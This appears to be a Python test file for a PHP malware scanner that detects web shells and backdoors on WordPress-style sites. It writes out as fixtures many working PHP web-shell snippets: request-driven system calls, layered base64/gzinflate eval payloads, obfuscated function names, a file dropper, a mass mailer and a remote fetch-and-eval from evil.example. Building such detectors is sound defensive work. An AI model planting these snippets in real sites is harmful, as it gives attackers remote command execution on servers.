"""The PHP engine judges techniques: each one found however it is spelled, layer after
layer, and its benign look-alike (the same functions on the site's own data) left alone.
Every hit carries what a person needs to check it: rule id, line, byte offset, the
decoded layer, and why it matters."""

from __future__ import annotations

import base64
import zlib

import pytest

from vpsrescue.formats.php import php_lex
from vpsrescue.triage.model import Site
from vpsrescue.triage.phpscan import RULES, could_run_as_php, finding_for, judge, plain
from vpsrescue.triage.quarantine import judged

pytestmark = pytest.mark.unit


def rules(src: bytes) -> set[str]:
    return {h.rule.id for h in judge(src) if h.rule.severity in ("critical", "high", "medium")}


def deflate(b: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(b) + c.flush()


SHELL = b"<?php system($_GET['c']); ?>"
B64 = base64.b64encode(deflate(b"system($_GET['c']);")).decode()


@pytest.mark.parametrize(("src", "rule"), [
    (b"<?php system($_GET['c']);", "php.request-exec"),
    (b"<?php $c = $_POST['c']; $d = trim($c); passthru($d);", "php.request-exec"),
    (b"<?php echo `ls {$_COOKIE['d']}`;", "php.request-exec"),
    (b"<?php $o = `ls $dir`;", "php.backtick"),
    (b"<?php $_POST['f']($_POST['a']);", "php.request-callable"),
    (b"<?php $f = $_GET['f']; $f($_GET['a']);", "php.request-callable"),
    (b"<?php call_user_func($_REQUEST['f'], $_REQUEST['a']);", "php.request-callable"),
    (b"<?php array_map('assert', array($_POST['x']));", "php.request-exec"),
    (b"<?php class A { function ex($c) { return shell_exec($c); } }\n"
     b"$r = $a->ex($_GET['c']);", "php.request-exec"),
    (b"<?php usort($a, $_GET['cmp']);", "php.request-callable"),
    (f"<?php eval(gzinflate(base64_decode('{B64}')));".encode(), "php.eval-decoded"),
    # the same through a variable function whose name is spelled in hex escapes
    (f'<?php $d="\\x62\\x61\\163\\x65\\66\\64\\x5f\\x64\\145\\x63\\x6f\\x64\\x65";'
     f'$g="gz"."inf"."late"; eval($g($d("{B64}")));'.encode(), "php.eval-decoded"),
    (f"<?php $p = str_rot13('riny'); assert(gzinflate(base64_decode('{B64}')));".encode(),
     "php.eval-decoded"),
    (b"<?php $f = chr(115).chr(121).chr(115).'tem'; $f($_GET['c']);", "php.request-exec"),
    (b"<?php $f = 'sys'.'tem'; $f($_GET['c']);", "php.hidden-call"),
    (b"<?php $x = strrev('tressa'); $x($_POST['z']);", "php.request-exec"),
    (b"<?php $n = 'ETOD2LB04EHZ' ^ \"5&*#m>'@X$+?\"; $n('/x/e', $_GET['c'], 'x');",
     "php.preg-replace-e"),
    (b"<?php echo preg_replace('/.*/e', $_REQUEST['c'], '');", "php.preg-replace-e"),
    (b"<?php $fn = create_function('', $_REQUEST['code']); $fn();", "php.request-exec"),
    (b"<?php $l = create_function('$a', base64_decode('ZXZhbCgkYSk7')); $l($x);",
     "php.create-function"),
    (b"<?php assert('phpinfo()');", "php.assert-string"),
    (b"<?php include $_GET['page'];", "php.include-request"),
    (b"<?php @include '/var/www/wp-includes/images/.cache.ico';", "php.include-non-php"),
    (b"<?php eval(file_get_contents('http://evil.example/x.txt'));", "php.eval-remote"),
    (b"<?php $c = curl_init('http://x'); $r = curl_exec($c); eval($r);", "php.eval-remote"),
    (b"<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
     "php.upload-unchecked"),
    (b"<?php echo @copy($_FILES['f']['tmp_name'], $_FILES['f']['name']) ? 'ok' : 'no';",
     "php.upload-unchecked"),
    (b"<?php file_put_contents($_POST['n'], $_POST['d']);", "php.request-write"),
    (b"<?php $fp = fopen('x.php', 'w'); fwrite($fp, base64_decode('PD9waHAgc3lzdGVtKCRfR0VU"
     b"WydjJ10pOyA/Pg=='));", "php.dropper"),
    (b"<?php $to = explode(\"\\n\", $_POST['list']); foreach ($to as $t) { mail($t, $_POST"
     b"['s'], $_POST['b']); }", "php.mass-mailer"),
    (b"<?php $q = $_POST['q']; mysql_query($q);", "php.request-sql"),
    (b"<?php $x = '" + base64.b64encode(bytes(range(256)) * 4) + b"';", "php.encoded-blob"),
    (b"<?php $x = '" + base64.b64encode(b"<?php system($_GET['c']); ?>" * 30) + b"';",
     "php.hidden-payload"),
    (b"<?php $f = gzuncompress(base64_decode($blob));", "php.decode-chain"),
    (b"<?php ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}[\"\\x61\\x62\\x63\"]=\"\\x73\\x79"
     b"\\x73\";${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}[\"\\x64\\x65\\x66\"]=\"\\x65\\x76"
     b"\\x61\";$b=\"\\x6c\\x6f\\x67\";", "php.obfuscated-names"),
    (b"<?php echo php_uname(); echo ini_get('safe_mode'); echo disk_free_space('/'); "
     b"echo getcwd(); $u = posix_getpwuid(fileowner('.')); if (isset($_POST['c'])) "
     b"echo shell_exec($_POST['c']);", "php.request-exec"),
])
def test_each_technique_is_found(src: bytes, rule: str) -> None:
    assert rule in RULES
    found = {h.rule.id for h in judge(src)}
    assert rule in found, found
    if rule != "php.backtick":  # low: getID3, packaged with WordPress, runs tools so
        assert rule in rules(src)


@pytest.mark.parametrize("src", [
    b"<?php $x = preg_replace('/\\s+/', ' ', $text);",
    b"<?php @include ABSPATH . 'wp-admin/includes/plugin.php';",
    b"<?php $json = base64_decode( $value['encoded'], true );",
    b"<?php // example: eval(base64_decode($x)) is what a backdoor does",
    b"<?php /* system($_GET['c']); */ echo 'hi';",
    b"<?php echo 'system($_GET[\"c\"])';",
    b"<?php $n = (int) $_GET['n']; include __DIR__ . \"/part-$n.php\";",
    b"<?php $l = preg_replace('/[^a-z]/', '', $_REQUEST['l']); require \"lang/$l.php\";",
    b"<?php call_user_func_array( $control['callback'], $control['params'] );",
    b"<?php assert( $x > 0 );",
    b"<?php $data = gzinflate( $body ); $v = base64_decode( $b64 );",
    b"<?php exec( 'convert ' . escapeshellarg( $file ), $out );",
    b"<?php $icon = '" + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 3) + b"';",
    b"<?php echo php_uname(); echo disk_free_space('/'); echo getcwd();",
    b"<?php if ($ok) mail($admin, 'Report', $body);",
    b"<?php function f($file) { $fp = fopen($file, 'w'); fwrite($fp, $data); }"
    b" $file = $_FILES['u']['name'];",
])
def test_benign_lookalikes_are_left_alone(src: bytes) -> None:
    assert rules(src) == set(), [(h.rule.id, h.layer) for h in judge(src)]


def test_a_finding_names_rule_line_offset_layer_and_why() -> None:
    src = (b"<?php\n// a theme\n\n  @eval(gzinflate(base64_decode('" + B64.encode() +
           b"')));\n")
    hits = judge(src)
    f = finding_for("wordpress.php_code", "/x/functions.php", src, hits)
    e = f.extra
    assert e["rule"] == "php.eval-decoded"
    assert e["line"] == 4
    assert src[e["offset"]:].startswith(b"eval(")
    assert "system($_GET['c'])" in e["layer"]  # the decoded text, not the base64
    assert e["why"] == RULES["php.eval-decoded"].why and e["why"].endswith(".")
    assert f.severity == "critical" and judged([f], [])[0].quarantine  # by the policy
    # the decoded layer's own rule is there too: it runs request input
    assert {"php.request-exec", "php.eval-decoded"} <= set(e["rules"])


def test_layers_are_plain_text_never_markup_or_control_bytes() -> None:
    assert plain(b"<script>\x00\x1b[2J\nx") == "<script>\\x00\\x1b[2J x"


def test_six_layers_deep_are_unwrapped() -> None:
    code = b"system($_GET['c']);"
    for _ in range(6):
        code = b"eval(gzinflate(base64_decode('" + base64.b64encode(deflate(code)) + b"')));"
    hits = judge(b"<?php " + code)
    assert any(h.rule.id == "php.request-exec" and h.depth == 6 for h in hits)


def test_php_could_run_whatever_the_name() -> None:
    for name in ("a.php", "a.PHTML", "a.php5", "a.phar", "a.inc", "a.php8"):
        assert could_run_as_php(name, b"")
    assert could_run_as_php("favicon.ico", b"\x00\x00\x01\x00<?php eval($x);")
    assert could_run_as_php("noext", b"<?= `id` ?>")
    assert not could_run_as_php("logo.png", b"\x89PNG\r\n<?xml")


def test_lexer_keeps_offsets_and_resolves_escapes() -> None:
    src = b"<?php /* c */ $a = \"\\x73ys\" . 'tem'; ?>html<?= $b ?>"
    code, strings = php_lex(src)
    assert len(code) == len(src)
    assert [s.value for s in strings] == [b"sys", b"tem"]
    assert code.index(b"$a") == src.index(b"$a") and b"html" not in code


def test_a_low_hit_is_for_the_record_not_quarantined() -> None:
    """getID3, which WordPress uses, runs tools in backticks: reported low, restored."""
    src = b"<?php\n$out = `$commandline`;\n"
    (f,) = judged([finding_for("wordpress.php_code", "/usr/share/php/getid3/getid3.lib.php",
                               src, judge(src))], [Site("/usr/share/php", "")])
    assert (f.severity, f.quarantine, f.extra["rule"]) == ("low", False, "php.backtick")
